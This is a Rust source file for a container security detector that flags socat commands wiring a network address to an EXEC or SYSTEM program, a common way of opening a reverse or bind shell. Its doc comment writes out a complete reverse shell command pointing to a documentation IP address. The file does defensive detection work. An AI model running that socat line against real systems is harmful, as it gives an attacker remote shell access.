//! Socat Reverse Shell Detected: `socat` joins a network address (`TCP:`, `TCP-LISTEN:`,
//! `OPENSSL:`, `UDP:`, `SCTP:` and their variants) to a program address (`EXEC:` or `SYSTEM:`),
//! e.g. `socat TCP:203.0.113.5:4444 EXEC:/bin/bash,pty,stderr,setsid`. Through a pty the shell's
//! stdin is not the socket, so the Reverse Shell rule alone can miss it.

use super::{quoted_argument, with_image};
use shrike_core::event::ExecEvent;
use shrike_core::{Detection, DetectionContext, Detector, FindingType};

/// Network address types (lower case, without the colon).
const NETWORK_TYPES: &[&str] = &[
    "tcp",
    "tcp4",
    "tcp6",
    "tcp-connect",
    "tcp4-connect",
    "tcp6-connect",
    "tcp-listen",
    "tcp4-listen",
    "tcp6-listen",
    "openssl",
    "openssl-connect",
    "openssl-listen",
    "ssl",
    "ssl-l",
    "udp",
    "udp4",
    "udp6",
    "udp-connect",
    "udp-listen",
    "sctp",
    "sctp-connect",
    "sctp-listen",
];

/// The address type of a socat address (`TCP:h:1,fork` → `tcp`), lower case.
fn address_type(arg: &str) -> Option<String> {
    let (kind, _) = arg.split_once(':')?;
    Some(kind.to_ascii_lowercase())
}

/// See the module documentation.
#[derive(Debug, Clone, Copy, Default)]
pub struct SocatDetector;

impl Detector for SocatDetector {
    fn name(&self) -> &'static str {
        "socat"
    }

    fn finding_types(&self) -> &'static [FindingType] {
        &[FindingType::SocatReverseShellDetected]
    }

    fn on_exec(&self, exec: &ExecEvent, ctx: &DetectionContext<'_>) -> Option<Detection> {
        if !ctx.names.is("socat") {
            return None;
        }
        let container = exec.container.as_ref()?;
        let addresses = || exec.argv.iter().skip(1).filter(|a| !a.starts_with('-'));
        let program =
            addresses().find(|a| matches!(address_type(a).as_deref(), Some("exec" | "system")))?;
        let (network, kind) = addresses().find_map(|a| {
            let kind = address_type(a)?;
            NETWORK_TYPES.contains(&kind.as_str()).then_some((a, kind))
        })?;
        let mode = if kind.ends_with("-listen") || kind == "ssl-l" {
            "listen"
        } else {
            "connect"
        };
        let summary = format!(
            "socat in container {} joins {} to {} ({mode})",
            container.name.as_deref().unwrap_or(&container.id),
            quoted_argument(network),
            quoted_argument(program)
        );
        let detection = Detection::new(FindingType::SocatReverseShellDetected, summary)
            .with_property("Socat_Network_Address", quoted_argument(network))
            .with_property("Socat_Exec_Address", quoted_argument(program))
            .with_property("Socat_Mode", mode);
        Some(with_image(detection, exec))
    }
}
